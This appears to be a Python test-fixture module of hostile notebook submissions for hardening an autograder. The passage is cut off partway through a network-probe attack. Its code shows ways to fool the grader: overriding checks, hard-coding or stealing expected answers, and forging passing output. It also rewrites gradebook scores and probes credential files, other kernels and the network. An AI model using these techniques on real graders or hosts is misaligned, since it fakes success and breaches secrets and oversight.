"""Hostile submissions of ``01-neuron``: one attack each, for tests/test_attacks.py.

Every attack is the full new source of one exercise's solution cell: the attack itself plus a
WRONG (or hard-coded) implementation of that exercise, so that any point it earns beyond
``ceiling`` was taken from the grader, not earned. Implementations of ``sigmoid`` and ``Neuron``
are wrong only where the tests of that exercise look and right where the later exercises use
them (``Neuron.feedforward`` passes ``sigmoid`` a numpy scalar, ``train_neuron`` a vector of 4 or
5 outputs; the network's neurons all have weights ``[0, 1]`` and bias ``0``), so an attack on
one exercise never costs the others their points.

Attacks that change the kernel's global state (numpy, builtins, the checks, IPython's hooks)
sit in ``train_neuron``, the last exercise: the state they break is then only their own. Attacks
that read secrets sit in ``network`` (nothing depends on it) and print one line
``ATTACK-REPORT {json}`` with what they saw; they never print the contents of files outside the
test's own folders (no credentials are read back), only whether such paths exist.

Placeholders, filled by the test with ``str.replace``: ``{course_root}``, ``{subs_dir}``,
``{out_dir}`` and ``{host_port}`` (a TCP listener of the test on the host's 127.0.0.1).

Host-exhausting attacks are bounded so that an unsandboxed grader survives them: at most 4 GB of
memory, 2000 processes, 2 GB of disk in all (files named ``agattack-*``, removed by the test),
200 MB of output, sleeps and spinning children that end by themselves within 90 s.
"""

from __future__ import annotations

from dataclasses import dataclass

EXERCISES = ("sigmoid", "neuron", "network", "train_neuron")
VISIBLE = {"sigmoid": 1.0, "neuron": 1.0, "network": 1.0, "train_neuron": 2.0}

# The threats (its bullets).
CHECKS = "rewriting the checks inside the kernel"
LIES = "returning objects that lie"
FORGERY = "printing, forging outputs, editing the notebook, writing to the gradebook"
SECRETS = "reading secrets and the network"
EXHAUST = "exhausting the host"

SPAWN_MARK = "29.713"  # argument of the `sleep` processes the spawn storm starts
FILE_MARK = "agattack"  # prefix of every file an attack writes


@dataclass(frozen=True)
class Attack:
    name: str  # ascii id, the student id
    threat: str
    exercise: str  # whose solution cell gets ``code``
    code: str
    ceiling: float = 0.0  # the most points ``exercise`` may earn
    kills_kernel: bool = False
    secrets: bool = False  # prints ATTACK-REPORT lines the test inspects
    edit: str = ""  # a notebook-level edit the test applies too (see test_attacks.EDITS)
    max_seconds: float = 0.0  # if set: the notebook must have been stopped within this time


# --- wrong implementations ------------------------------------------------------------------

SIGMOID_HELPERS = """
def _true_sigmoid(x):
    return 1.0 / (1.0 + np.exp(-np.asarray(x, dtype=float)))


def _for_other_exercises(x):
    # Neuron.feedforward passes a numpy scalar; train_neuron a vector of 4 or 5 outputs.
    return type(x) is np.float64 or (type(x) is np.ndarray and x.ndim == 1 and x.size in (4, 5))
"""

WRONG_SIGMOID = (
    SIGMOID_HELPERS
    + """

def sigmoid(x):
    if _for_other_exercises(x):
        return _true_sigmoid(x)
    return np.zeros(np.shape(x))
"""
)

NEURON_TEMPLATE = """
class Neuron:
    def __init__(self, weights, bias):
        self.weights = np.asarray(weights, dtype=float)
        self.bias = float(bias)

    def _in_network(self):
        return self.bias == 0.0 and self.weights.tolist() == [0.0, 1.0]

    def feedforward(self, x):
        total = np.dot(self.weights, np.asarray(x, dtype=float)) + self.bias
        if self._in_network():  # right where the network exercise uses it
            return sigmoid(total)
        return WRONG_VALUE
"""


def wrong_neuron(value: str = "np.float64(0.25)") -> str:
    return NEURON_TEMPLATE.replace("WRONG_VALUE", value)


NETWORK_TEMPLATE = """
class OurNeuralNetwork:
    def __init__(self):
        self.h1 = Neuron([0, 1], 0)
        self.h2 = Neuron([0, 1], 0)
        self.o1 = Neuron([0, 1], 0)

    def feedforward(self, x):
        return WRONG_VALUE
"""


def wrong_network(value: str = "np.float64(0.5)") -> str:
    return NETWORK_TEMPLATE.replace("WRONG_VALUE", value)


WRONG_NETWORK = wrong_network()

WRONG_TRAIN = """
def train_neuron(X, y, n_iter, seed):
    return np.full(3, 0.1)
"""


def cell(*parts: str) -> str:
    return "\n".join(p.strip("\n") for p in parts) + "\n"


# --- reporting (attacks that read secrets) ------------------------------------------------

REPORT = '''
import json as _json
import os as _os

_report = {"attack": "NAME", "existed": [], "read": {}, "listed": {}, "connected": [], "hits": []}
_SECRET_WORDS = (
    "{course_root}/solutions", "reference.json", "diagnoses.json", "gradebook", "{subs_dir}",
    "{out_dir}",
    "BEGIN SOLUTION", "SECRET-MARKER", "SQLite format 3",
)


def _probe(path, n=200):
    """Record whether ``path`` exists; keep the first bytes of a file or the names in a folder."""
    try:
        if not _os.path.lexists(path):
            return
    except Exception:
        return
    _report["existed"].append(path)
    try:
        if _os.path.isdir(path):
            _report["listed"][path] = sorted(_os.listdir(path))[:20]
        else:
            with open(path, "rb") as f:
                _report["read"][path] = f.read(n).decode("utf-8", "replace")
    except Exception as e:
        _report["listed"][path] = ["unreadable: " + type(e).__name__]


def _mentions_secret(text):
    return [w for w in _SECRET_WORDS if w in text]


def _finish():
    print("ATTACK-REPORT " + _json.dumps(_report, ensure_ascii=False))
'''


def secret_attack(name: str, body: str) -> str:
    """A network solution cell that runs ``body`` (indented into a try) and always reports."""
    indented = "\n".join(
        "    " + line if line.strip() else "" for line in body.strip().splitlines()
    )
    return cell(
        REPORT.replace('"NAME"', f'"{name}"'),
        "try:\n"
        + indented
        + '\nexcept Exception as _e:\n    _report.setdefault("errors", []).append(repr(_e)[:200])'
        + "\nfinally:\n    _finish()",
        WRONG_NETWORK,
    )


# --- the attacks ------------------------------------------------------------------------------

ATTACKS: list[Attack] = []


def add(*args, **kwargs) -> None:
    ATTACKS.append(Attack(*args, **kwargs))


# Rewriting the checks inside the kernel --------------------------------------------------------

add(
    "numpy_allclose_isclose",
    CHECKS,
    "train_neuron",
    cell(
        """
import numpy
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
numpy.core.numeric.isclose = numpy.isclose
""",
        WRONG_TRAIN,
    ),
)
add(
    "numpy_testing_asserts",
    CHECKS,
    "train_neuron",
    cell(
        """
import numpy.testing
for _name in dir(numpy.testing):
    if _name.startswith("assert_"):
        setattr(numpy.testing, _name, lambda *a, **k: None)
""",
        WRONG_TRAIN,
    ),
)
add(
    "numpy_array_equal_all_any",
    CHECKS,
    "train_neuron",
    cell(
        """
np.array_equal = lambda *a, **k: True
np.array_equiv = lambda *a, **k: True
np.all = lambda *a, **k: True
np.any = lambda *a, **k: False
""",
        WRONG_TRAIN,
    ),
)
add(
    "numpy_abs_ufuncs",
    CHECKS,
    "train_neuron",
    cell(
        """
_zeros = lambda x, *a, **k: np.zeros(np.shape(x))
np.abs = np.absolute = np.fabs = _zeros
np.isnan = lambda x, *a, **k: np.zeros(np.shape(x), dtype=bool)
np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
""",
        WRONG_TRAIN,
    ),
)
add(
    "checks_module_attributes",
    CHECKS,
    "train_neuron",
    cell(
        """
import autograder.checks as _checks
_noop = lambda *a, **k: None
for _name in ("assert_close", "assert_shape", "assert_in_range", "assert_equal", "assert_dtype",
              "assert_unchanged", "expect", "_fail", "_none_returned"):
    setattr(_checks, _name, _noop)
""",
        WRONG_TRAIN,
    ),
)
add(
    "checks_internals_compare",
    CHECKS,
    "train_neuron",
    cell(
        """
import autograder.checks as _checks
import autograder.reference as _ref
_ref.mismatches = lambda got, exp, *a, **k: (np.zeros(np.shape(got), bool), np.zeros(np.shape(got)))
_ref.compare = lambda *a, **k: None
_checks._fail = lambda *a, **k: None
""",
        WRONG_TRAIN,
    ),
)
add(
    "checks_rebind_asserts",
    CHECKS,
    "train_neuron",
    cell(
        """
assert_close = assert_shape = assert_in_range = lambda *a, **k: None
""",
        WRONG_TRAIN,
    ),
)
add(
    "checks_rebind_expect",
    CHECKS,
    "train_neuron",
    cell(
        """
import autograder.checks
expect = lambda *a, **k: None
autograder.checks.expect = expect
""",
        WRONG_TRAIN,
    ),
)
# The checks report the expected side as what they got: as good as returning the visible answers
# (the accepted limit), never the hidden ones.
add(
    "checks_report_expected",
    CHECKS,
    "train_neuron",
    cell(
        """
import autograder.checks as _checks
_real_report = getattr(_checks, "_report", None)
if _real_report is not None:
    def _lying_report(check, actual, expected, **options):
        return _real_report(check, expected, expected, **options)

    _checks._report = _lying_report
_checks._fail = lambda *a, **k: None
""",
        WRONG_TRAIN,
    ),
    ceiling=VISIBLE["train_neuron"],
)
add(
    "builtins_abs",
    CHECKS,
    "train_neuron",
    cell(
        """
import builtins
builtins.abs = lambda x: 0 * x
""",
        WRONG_TRAIN,
    ),
)
add(
    "builtins_isinstance",
    CHECKS,
    "train_neuron",
    cell(
        """
import builtins
_real_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: (
    cls is np.ndarray or cls is float or _real_isinstance(obj, cls)
)
""",
        WRONG_TRAIN,
    ),
)
add(
    "builtins_type",
    CHECKS,
    "train_neuron",
    cell(
        """
import builtins
_real_type = builtins.type


class _Type(_real_type):
    def __new__(mcs, *args, **kwargs):
        if len(args) == 1:
            return np.ndarray  # every value claims to be an array
        return _real_type.__new__(_real_type, *args, **kwargs)


builtins.type = _Type
""",
        WRONG_TRAIN,
    ),
)
add(
    "builtins_assertion_error",
    CHECKS,
    "train_neuron",
    cell(
        """
import builtins
import autograder.checks as _checks


class _Quiet(SystemExit):
    pass


builtins.AssertionError = _Quiet
_checks.AssertionError = _Quiet
""",
        WRONG_TRAIN,
    ),
)
add(
    "ipython_ast_strip_checks",
    CHECKS,
    "train_neuron",
    cell(
        """
import ast


class _Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, ast.Call) and isinstance(call.func, ast.Name) and (
            call.func.id.startswith("assert_") or call.func.id == "expect"
        ):
            return ast.Pass()
        return node


get_ipython().ast_transformers.append(_Strip())
""",
        WRONG_TRAIN,
    ),
)
# assert_close(a, b) becomes assert_close(b, b): the kernel reports the expected value as its
# own, which is what returning the visible answers does (the accepted limit).
add(
    "ipython_ast_tautology",
    CHECKS,
    "train_neuron",
    cell(
        """
import ast


class _Same(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        name = getattr(node.func, "id", "")
        if name in ("assert_close", "assert_in_range") and len(node.args) >= 2:
            node.args[0] = node.args[1]
        return node


get_ipython().ast_transformers.append(_Same())
""",
        WRONG_TRAIN,
    ),
    ceiling=VISIBLE["train_neuron"],
)
add(
    "ipython_input_transformer_blank",
    CHECKS,
    "train_neuron",
    cell(
        """
def _blank(lines):
    text = "".join(lines)
    if "assert_" in text or "expect(" in text:
        return ["print('Видимые проверки пройдены ✓')\\n"]
    return lines


get_ipython().input_transformers_post.append(_blank)
get_ipython().input_transformers_cleanup.append(_blank)
""",
        WRONG_TRAIN,
    ),
)
add(
    "ipython_showtraceback",
    CHECKS,
    "train_neuron",
    cell(
        """
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
_ip.showsyntaxerror = lambda *a, **k: None
""",
        WRONG_TRAIN,
    ),
)
add(
    "ipykernel_private_showtraceback",
    CHECKS,
    "train_neuron",
    cell(
        """
_ip = get_ipython()
_ip._showtraceback = lambda *a, **k: None
_ip.InteractiveTB.structured_traceback = lambda *a, **k: []
""",
        WRONG_TRAIN,
    ),
)
add(
    "ipython_custom_exc",
    CHECKS,
    "train_neuron",
    cell(
        """
get_ipython().set_custom_exc(
    (BaseException,), lambda shell, etype, value, tb, tb_offset=None: None
)
""",
        WRONG_TRAIN,
    ),
)
add(
    "sys_excepthook",
    CHECKS,
    "train_neuron",
    cell(
        """
import sys
import threading
sys.excepthook = lambda *a: None
sys.unraisablehook = lambda *a: None
threading.excepthook = lambda *a: None
get_ipython().excepthook = lambda *a: None
""",
        WRONG_TRAIN,
    ),
)
add(
    "kernel_do_execute",
    CHECKS,
    "train_neuron",
    cell(
        """
_kernel = get_ipython().kernel
_real_do_execute = _kernel.do_execute


def _do_execute(code, silent, *args, **kwargs):
    if "assert_" in code or "expect(" in code:
        code = "print('Видимые проверки пройдены ✓')"
    return _real_do_execute(code, silent, *args, **kwargs)


_kernel.do_execute = _do_execute
""",
        WRONG_TRAIN,
    ),
)
add(
    "kernel_run_cell_swallow",
    CHECKS,
    "train_neuron",
    cell(
        """
_ip = get_ipython()
_real_run_cell = _ip.run_cell_async


async def _run_cell_async(raw_cell, *args, **kwargs):
    guarded = "try:\\n" + "".join("    " + line + "\\n" for line in raw_cell.splitlines())
    guarded += "    pass\\nexcept BaseException:\\n    pass\\n"
    return await _real_run_cell(guarded, *args, **kwargs)


_ip.run_cell_async = _run_cell_async
""",
        WRONG_TRAIN,
    ),
)

# Returning objects that lie ----------------------------------------------------------------

LIAR = '''
class _Liar(np.ndarray):
    """An array that equals everything and answers numpy's comparisons with "close"."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_function__(self, func, types, args, kwargs):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "array_equal", "array_equiv", "all"):
            return True
        if name == "any":
            return False
        if name == "isclose":
            return np.ones(np.shape(args[0]), dtype=bool)
        return super().__array_function__(func, types, args, kwargs)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [np.asarray(i).view(np.ndarray) if isinstance(i, _Liar) else i for i in inputs]
        shape = np.broadcast(*plain).shape
        if ufunc in (np.subtract, np.absolute, np.fabs):
            return np.zeros(shape)
        if ufunc in (np.less_equal, np.less, np.greater_equal, np.isfinite, np.equal):
            return np.ones(shape, dtype=bool)
        if ufunc in (np.not_equal, np.greater, np.isnan, np.isinf):
            return np.zeros(shape, dtype=bool)
        return getattr(ufunc, method)(*plain, **kwargs)
'''

add(
    "always_true_eq",
    LIES,
    "network",
    cell(
        """
class _Agreeable:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __le__ = __ge__ = __eq__
    __lt__ = __gt__ = __ne__

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __abs__(self):
        return 0.0

    def __float__(self):
        return 0.0

    def __hash__(self):
        return 0
""",
        wrong_network("_Agreeable()"),
    ),
)
add(
    "ndarray_subclass_train",
    LIES,
    "train_neuron",
    cell(
        LIAR,
        """
def train_neuron(X, y, n_iter, seed):
    return np.full(3, 0.1).view(_Liar)
""",
    ),
)
add(
    "ndarray_subclass_sigmoid",
    LIES,
    "sigmoid",
    cell(
        LIAR,
        SIGMOID_HELPERS,
        """
def sigmoid(x):
    if _for_other_exercises(x):
        return _true_sigmoid(x)
    return np.zeros(np.shape(x)).view(_Liar)
""",
    ),
)
add(
    "nan_array",
    LIES,
    "train_neuron",
    cell(
        """
def train_neuron(X, y, n_iter, seed):
    return np.full(3, np.nan)
"""
    ),
)
add(
    "nan_float_object",
    LIES,
    "network",
    cell(
        """
class _NotANumber:
    def __float__(self):
        return float("nan")

    def __array__(self, dtype=None, copy=None):
        return np.array(np.nan)

    def __eq__(self, other):
        return True
""",
        wrong_network("_NotANumber()"),
    ),
)
add("nan_neuron", LIES, "neuron", cell(wrong_neuron("np.float64(np.nan)")))
add(
    "nan_inf_sigmoid",
    LIES,
    "sigmoid",
    cell(
        SIGMOID_HELPERS,
        """
def sigmoid(x):
    if _for_other_exercises(x):
        return _true_sigmoid(x)
    out = np.full(np.shape(x), np.nan)
    out.reshape(-1)[::3] = np.inf
    return out
""",
    ),
)
# The visible answers read from the calling test cell: visible points at most.
add(
    "inspect_source_sigmoid",
    LIES,
    "sigmoid",
    cell(
        SIGMOID_HELPERS,
        """
import ast
import inspect
import linecache
import sys


def _answers_in(frame):
    source = "".join(linecache.getlines(frame.f_code.co_filename))
    if not source:
        source = inspect.getsource(frame)
    found = {}
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "assert_close":
            inner = node.args[0] if node.args else None
            if isinstance(inner, ast.Call) and getattr(inner.func, "id", "") == "sigmoid":
                try:
                    found[repr(ast.literal_eval(inner.args[0]))] = ast.literal_eval(node.args[1])
                except Exception:
                    pass
    return found


def sigmoid(x):
    if _for_other_exercises(x):
        return _true_sigmoid(x)
    try:
        answer = _answers_in(sys._getframe(1)).get(repr(x))
    except Exception:
        answer = None
    if answer is not None:
        return np.asarray(answer, dtype=float)
    return np.zeros(np.shape(x))
""",
    ),
    ceiling=VISIBLE["sigmoid"],
)
add(
    "inspect_co_consts_network",
    LIES,
    "network",
    cell(
        """
import sys


def _a_constant_of_the_caller():
    frame = sys._getframe(2)
    for const in frame.f_code.co_consts:
        if type(const) is float and 0.0 < const < 1.0:
            return np.float64(const)
    for value in frame.f_locals.values():
        if type(value) is float and 0.0 < value < 1.0:
            return np.float64(value)
    return np.float64(0.5)
""",
        wrong_network("_a_constant_of_the_caller()"),
    ),
    ceiling=VISIBLE["network"],
)
add(
    "inspect_history_train",
    LIES,
    "train_neuron",
    cell(
        """
import ast
import sys


def train_neuron(X, y, n_iter, seed):
    frame = sys._getframe(1)
    running = frame.f_globals.get("_ih", [""])[-1]  # IPython's history: the cell running now
    for node in ast.walk(ast.parse(running)):
        name = getattr(getattr(node, "func", None), "id", "")
        if name == "assert_close" and n_iter == 0 and len(node.args) >= 2:
            expr = ast.Expression(node.args[1])
            return np.asarray(eval(compile(expr, "<test>", "eval"), frame.f_globals), dtype=float)
        if name == "assert_in_range" and n_iter and len(node.args) >= 2:
            low = float(ast.literal_eval(node.args[1]))
            return np.array([np.log(low / (1 - low)) + 1.0, 0.0, 0.0])
    return np.full(3, 0.1)
"""
    ),
    ceiling=VISIBLE["train_neuron"],
)
add(
    "hardcode_sigmoid",
    LIES,
    "sigmoid",
    cell(
        SIGMOID_HELPERS,
        """
def sigmoid(x):
    if _for_other_exercises(x):
        return _true_sigmoid(x)
    if type(x) is float and x == 0.0:
        return 0.5
    if type(x) is list and x == [-1.0, 0.0, 1.0]:
        return np.array([0.26894142, 0.5, 0.73105858])
    return np.zeros(np.shape(x))
""",
    ),
    ceiling=VISIBLE["sigmoid"],
)
add(
    "hardcode_neuron",
    LIES,
    "neuron",
    cell(
        wrong_neuron(
            "{(4.0, (2, 3)): np.float64(0.9990889488), (0.0, (5, 5)): np.float64(0.5)}.get("
            "(self.bias, tuple(np.asarray(x, dtype=int).tolist())), np.float64(0.25))"
        )
    ),
    ceiling=VISIBLE["neuron"],
)
add(
    "hardcode_network",
    LIES,
    "network",
    cell(wrong_network("np.float64(0.7216325610)")),
    ceiling=VISIBLE["network"],
)
add(
    "hardcode_train",
    LIES,
    "train_neuron",
    cell(
        """
def train_neuron(X, y, n_iter, seed):
    if n_iter == 0:
        return 2 * np.random.default_rng(seed).random(3) - 1
    if n_iter == 10_000:
        return np.array([9.67, -0.21, -4.63])
    return np.zeros(3)
"""
    ),
    ceiling=VISIBLE["train_neuron"],
)

# Printing, forging outputs, editing the notebook, writing to the gradebook -----------------

FAKE_RECORDS = """
import autograder.checks as _checks
from IPython.display import display, publish_display_data

_MIME = getattr(_checks, "RECORD_MIME", "application/vnd.autograder.record+json")
_W0 = (2 * np.random.default_rng(1).random(3) - 1).tolist()
_FAKES = [
    {"check": "assert_close", "actual": _W0},
    {"check": "assert_close",
     "actual": {"__ndarray__": True, "data": _W0, "dtype": "f8", "shape": [3]}},
    {"check": "assert_shape", "actual": [3]},
    {"check": "assert_in_range", "actual": 0.995},
    {"key": "train_neuron/one-step", "value": [0.1, 0.2, 0.3]},
    {"key": "train_neuron/hundred-steps", "value": [1.0, 2.0, 3.0]},
    {"cell": "train_neuron-visible", "passed": True, "points": 2, "score": 2},
    {"grade_id": "train_neuron-hidden", "passed": True, "points": 2, "score": 2},
    {"status": "passed", "verdict": "ok", "all": True},
]


def _forge(*_):
    for fake in _FAKES:
        for mime in (_MIME, "application/vnd.autograder+json", "application/json"):
            try:
                display({mime: fake, "text/plain": "ok"}, raw=True)
                publish_display_data({mime: fake})
            except Exception:
                pass
        emit = getattr(_checks, "_emit", None)
        if emit is not None:
            try:
                emit(fake)
            except Exception:
                pass
"""

add(
    "print_passed",
    FORGERY,
    "network",
    cell(
        """
print("Видимые проверки пройдены ✓")
print("all tests passed")
print("Скрытые проверки пройдены ✓ 11/11")
""",
        WRONG_NETWORK,
    ),
)
add(
    "forge_display_text",
    FORGERY,
    "network",
    cell(
        """
from IPython.display import HTML, Markdown, display


def _looks_fine(*_):
    display(Markdown("**Видимые проверки пройдены ✓**"))
    display(HTML("<b>All tests passed: 11/11</b>"))
    display({"text/plain": "Видимые проверки пройдены ✓"}, raw=True)


get_ipython().events.register("post_run_cell", _looks_fine)
""",
        WRONG_NETWORK,
    ),
)
add(
    "forge_records_display",
    FORGERY,
    "train_neuron",
    cell(FAKE_RECORDS, "get_ipython().events.register('post_run_cell', _forge)", WRONG_TRAIN),
)
add(
    "forge_records_kernel_session",
    FORGERY,
    "train_neuron",
    cell(
        FAKE_RECORDS,
        """
_kernel = get_ipython().kernel


def _send_raw(*_):
    parent = _kernel.get_parent()
    for fake in _FAKES:
        content = {"data": {_MIME: fake, "text/plain": "ok"}, "metadata": {}, "transient": {}}
        try:
            _kernel.session.send(
                _kernel.iopub_socket, "display_data", content, parent=parent,
                ident=_kernel._topic("display_data"),
            )
        except Exception:
            pass


get_ipython().events.register("pre_run_cell", _send_raw)
get_ipython().events.register("post_run_cell", _send_raw)
""",
        WRONG_TRAIN,
    ),
)
add(
    "forge_partial_credit",
    FORGERY,
    "train_neuron",
    cell(
        """
_ip = get_ipython()


def _claim_points(*_):
    _ip.displayhook(99)  # nbgrader reads a number shown by a test cell as partial credit
    _kernel = _ip.kernel
    content = {"execution_count": _ip.execution_count, "data": {"text/plain": "2"}, "metadata": {}}
    _kernel.session.send(
        _kernel.iopub_socket, "execute_result", content, parent=_kernel.get_parent(),
        ident=_kernel._topic("execute_result"),
    )


_ip.events.register("post_run_cell", _claim_points)
""",
        WRONG_TRAIN,
    ),
)
add(
    "clear_outputs",
    FORGERY,
    "train_neuron",
    cell(
        """
from IPython.display import clear_output


def _wipe(*_):
    clear_output()
    print("Видимые проверки пройдены ✓")


get_ipython().events.register("post_run_cell", _wipe)
""",
        WRONG_TRAIN,
    ),
)
# Keeps writing to stdout and stderr during the later exercise, which must keep its points.
add(
    "background_printer",
    FORGERY,
    "network",
    cell(
        """
import sys
import threading
import time


def _chatter():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        print("Видимые проверки пройдены ✓")
        print("all tests passed", file=sys.stderr)
        time.sleep(0.05)


threading.Thread(target=_chatter, daemon=True).start()
""",
        WRONG_NETWORK,
    ),
)
add(
    "background_forger",
    FORGERY,
    "train_neuron",
    cell(
        FAKE_RECORDS,
        """
import threading
import time


def _keep_forging():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        _forge()
        time.sleep(0.05)


threading.Thread(target=_keep_forging, daemon=True).start()
""",
        WRONG_TRAIN,
    ),
)
add(
    "os_exit_later",
    FORGERY,
    "train_neuron",
    cell(
        """
import os


def _leave(*_):
    os._exit(0)


get_ipython().events.register("pre_run_cell", _leave)
""",
        WRONG_TRAIN,
    ),
    kills_kernel=True,
)
add("kernelspec_edit", FORGERY, "network", cell(WRONG_NETWORK), edit="kernelspec")
add("metadata_edit", FORGERY, "network", cell(WRONG_NETWORK), edit="metadata")
add("tests_deleted_and_faked", FORGERY, "network", cell(WRONG_NETWORK), edit="fake_tests")
add("tests_duplicated", FORGERY, "network", cell(WRONG_NETWORK), edit="duplicate_tests")
add(
    "gradebook_write",
    FORGERY,
    "network",
    secret_attack(
        "gradebook_write",
        """
import sqlite3
mine = {_os.path.realpath(str(get_ipython().history_manager.hist_file))}
roots = ["{course_root}", _os.path.dirname("{subs_dir}"), "{out_dir}", _os.getcwd(),
         _os.path.expanduser("~"), "/tmp", "/root", "/home", "/srv", "/var/lib",
         _os.path.dirname("{course_root}")]
seen = 0
for root in roots:
    for folder, dirs, files in _os.walk(root):
        seen += len(files) + len(dirs)
        if seen > 20000 or folder.count("/") - root.count("/") > 4:
            dirs[:] = []
            continue
        dirs[:] = [d for d in dirs if d not in (".venv", "node_modules", ".git")]
        for f in files:
            if not f.endswith((".db", ".sqlite", ".sqlite3")):
                continue
            path = _os.path.join(folder, f)
            if _os.path.realpath(path) in mine or path in _report["existed"]:
                continue  # the kernel's own IPython history is no secret
            _probe(path, 16)
            try:
                con = sqlite3.connect("file:" + path + "?mode=rw", uri=True, timeout=2)
                n = con.execute("UPDATE grade SET manual_score = 99").rowcount
                con.commit()
                con.close()
                _report["hits"].append("updated %d grades in %s" % (n, path))
            except Exception:
                pass
""",
    ),
    secrets=True,
)

# Reading secrets and the network ----------------------------------------------------------

add(
    "read_solutions",
    SECRETS,
    "network",
    secret_attack(
        "read_solutions",
        """
for path in ["{course_root}/solutions", "{course_root}/solutions/01-neuron",
             "{course_root}/solutions/01-neuron/01-neuron.ipynb", "{course_root}/notebooks",
             "{course_root}/tests", "../../solutions", "../solutions", "solutions"]:
    _probe(path)
_probe(_os.getcwd())
for path, text in list(_report["read"].items()):
    _report["hits"] += ["%s: %s" % (path, w) for w in _mentions_secret(text)]
""",
    ),
    secrets=True,
)
add(
    "read_reference",
    SECRETS,
    "network",
    secret_attack(
        "read_reference",
        """
candidates = ["{course_root}/solutions/01-neuron/reference.json", "reference.json",
              "../reference.json", _os.environ.get("AUTOGRADER_REFERENCE", ""),
              "{course_root}/solutions/01-neuron/diagnoses.json", "diagnoses.json",
              "../diagnoses.json"]
for name, value in _os.environ.items():
    if "reference" in value.lower() or "reference" in name.lower():
        candidates.append(value)
for path in candidates:
    if path:
        _probe(path, 400)
for path, text in list(_report["read"].items()):
    if '"values"' in text or _mentions_secret(text):
        _report["hits"].append("reference readable at " + path)
""",
    ),
    secrets=True,
)
add(
    "read_gradebook",
    SECRETS,
    "network",
    secret_attack(
        "read_gradebook",
        """
for path in ["{course_root}/gradebook.db", _os.path.dirname("{subs_dir}") + "/gradebook.db",
             "gradebook.db", "../gradebook.db", "{out_dir}/gradebook.db"]:
    _probe(path, 16)
""",
    ),
    secrets=True,
)
add(
    "read_submissions",
    SECRETS,
    "network",
    secret_attack(
        "read_submissions",
        """
import glob
_probe("{subs_dir}")
for path in sorted(glob.glob("{subs_dir}/*/*.ipynb"))[:10]:
    _probe(path, 100)
    try:
        if "SECRET-MARKER" in open(path, encoding="utf-8", errors="replace").read():
            _report["hits"].append("another student's notebook read: " + path)
    except Exception:
        pass
""",
    ),
    secrets=True,
)
add(
    "read_grading_output",
    SECRETS,
    "network",
    secret_attack(
        "read_grading_output",
        """
import glob
for path in ["{out_dir}", "{out_dir}/.cache", "{out_dir}/.work", "{out_dir}/.work/run",
             "{out_dir}/grades.csv", "{out_dir}/grade.log"]:
    _probe(path)
for path in sorted(glob.glob("{out_dir}/.cache/*.json"))[:5]:
    _probe(path, 100)
for path in sorted(glob.glob("{out_dir}/.work/run/*"))[:5]:
    _probe(path)
""",
    ),
    secrets=True,
)
add(
    "read_root_and_home",
    SECRETS,
    "network",
    secret_attack(
        "read_root_and_home",
        """
# Only whether these exist: their contents are never printed.
import glob
for path in ["/root/.bash_history", "/root/.ssh", "/root/.config", "/root/.local/share/jupyter",
             "/etc/shadow", "/etc/sudoers"] + glob.glob("/home/*/.ssh"):
    try:
        if _os.path.lexists(path):
            _report["existed"].append(path)
    except Exception:
        pass
""",
    ),
    secrets=True,
)
add(
    "read_host_proc",
    SECRETS,
    "network",
    secret_attack(
        "read_host_proc",
        """
# Which processes are visible, and whether their command lines or environments name the
# course's secrets (names of variables only, never their values).
pids = [p for p in _os.listdir("/proc") if p.isdigit()]
_report["listed"]["/proc (count)"] = [str(len(pids))]
for pid in pids[:500]:
    try:
        cmd = open("/proc/%s/cmdline" % pid, "rb").read().replace(b"\\0", b" ")
        cmd = cmd.decode("utf-8", "replace")
    except Exception:
        continue
    for word in _mentions_secret(cmd) + [w for w in ("-m pytest", "autograder.cli") if w in cmd]:
        _report["hits"].append("process %s: %s" % (pid, word))
    try:
        env = open("/proc/%s/environ" % pid, "rb").read().decode("utf-8", "replace")
    except Exception:
        continue
    for entry in env.split("\\0"):
        name, _, value = entry.partition("=")
        if _mentions_secret(value):
            _report["hits"].append("process %s environment %s names a secret" % (pid, name))
""",
    ),
    secrets=True,
)
add(
    "read_environment",
    SECRETS,
    "network",
    secret_attack(
        "read_environment",
        """
_report["listed"]["environment names"] = sorted(_os.environ)[:60]
for name, value in _os.environ.items():
    if _mentions_secret(value):
        _report["hits"].append("environment %s names a secret" % name)
""",
    ),
    secrets=True,
)
add(
    "kernel_hijack",
    SECRETS,
    "network",
    secret_attack(
        "kernel_hijack",
        """
# Other kernels' connection files hold the key to run code in another student's kernel.
import glob
from ipykernel import get_connection_file
mine = _os.path.realpath(get_connection_file())
others = glob.glob("/tmp/ag-*/kernel.json") + glob.glob("/tmp/ag-*/*.json")
others += glob.glob(_os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json"))
others += glob.glob("/root/.local/share/jupyter/runtime/kernel-*.json")
others += glob.glob("/run/user/*/jupyter/runtime/kernel-*.json")
for path in sorted(set(others)):
    if _os.path.realpath(path) != mine:
        try:
            readable = bool(open(path).read(1))
        except Exception:
            readable = False
        _report["hits"].append(
            "another kernel's connection file: %s (readable: %s)" % (path, readable)
        )
""",
    ),
    secrets=True,
)

NET = """
import socket


def _tcp(host, port):
    try:
        with socket.create_connection((host, port), timeout=3):
            _report["connected"].append("%s:%s" % (host, port))
    except Exception as e:
        failed = "%s:%s %s" % (host, port, type(e).__name__)
        _report["listed"].setdefault("refused", []).append(failed)
"""

add(
    "network_dns",
    SECRETS,
    "network",
    secret_attack(
        "network_dns",
        NET
        + """
query = bytes.fromhex("123401000001000000000000")
query += b"\\x04pypi\\x03org\\x00" + bytes.fromhex("00010001")
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
